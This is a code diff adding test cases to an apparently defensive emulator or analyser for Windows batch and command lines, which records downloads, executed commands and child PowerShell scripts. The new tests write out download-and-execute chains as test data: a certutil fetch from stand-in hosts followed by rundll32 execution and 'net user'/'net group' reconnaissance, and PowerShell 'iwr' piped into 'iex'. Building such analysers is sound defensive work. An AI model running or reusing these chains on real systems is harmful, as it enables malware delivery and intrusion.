@@ -108,6 +108,8 @@ def test_commands_are_resolved(text, command):
         (["set x=1", "set /a x+=5", "set /a x*=2"], "12"),
         (["set x=", "for /l %%i in (1,1,5) do call set x=%%x%%%%i"], "12345"),
         (["setlocal enabledelayedexpansion", "for %%i in (a,b;c d) do set x=!x!%%i"], "abcd"),
+        (["(set l=^", "", ")", "set x=after"], "after"),
+        (['for %%F in ("curl.exe") do set x=%%~$PATH:F'], r"C:\WINDOWS\System32\curl.exe"),
         (['for /f "tokens=2,4" %%a in ("one two three four") do set x=%%b-%%a'], "four-two"),
         (['for /f "tokens=1*" %%a in ("one two three") do set x=%%b'], "two three"),
         (["for /f \"usebackq delims=,\" %%a in ('p,q') do set x=%%a"], "p"),
@@ -248,3 +250,28 @@ def test_anything_ends(text):
     for names in ((), ("a.bat",)):
         with contextlib.suppress(LimitReached):
             line(text, *names, limits=Limits(operations=50_000))
+
+
+def test_a_loop_that_would_end_with_the_first_file_fetched_shows_every_address():
+    ran = batch(
+        "@echo off",
+        "for %%u in (http://a.example.test/x http://b.example.test/y) do (",
+        "certutil -urlcache -split -f %%u %temp%\\a.ocx",
+        "if exist %temp%\\a.ocx (rundll32 %temp%\\a.ocx,Start & goto done)",
+        ")",
+        "net user",
+        ":done",
+        "net group",
+    )
+    assert ran.values("effect.download") == ["http://a.example.test/x", "http://b.example.test/y"]
+    assert ran.runs[-1] == "net group"
+    assert "net user" not in ran.runs
+
+
+def test_what_is_piped_into_powershell_has_the_variables_it_reads():
+    (code,) = line('cmd /c "set a=iwr http://a.example.test/&&echo iex $env:a|powershell -"').children("script.powershell")
+    assert code.splitlines() == ["${env:a} = 'iwr http://a.example.test/'", "iex $env:a"]
+
+
+def test_quotes_around_parameters_of_powershell():
+    assert line('powershell "-nop" "-c" "iwr http://a.example.test/"').children("script.powershell") == ["iwr http://a.example.test/"]
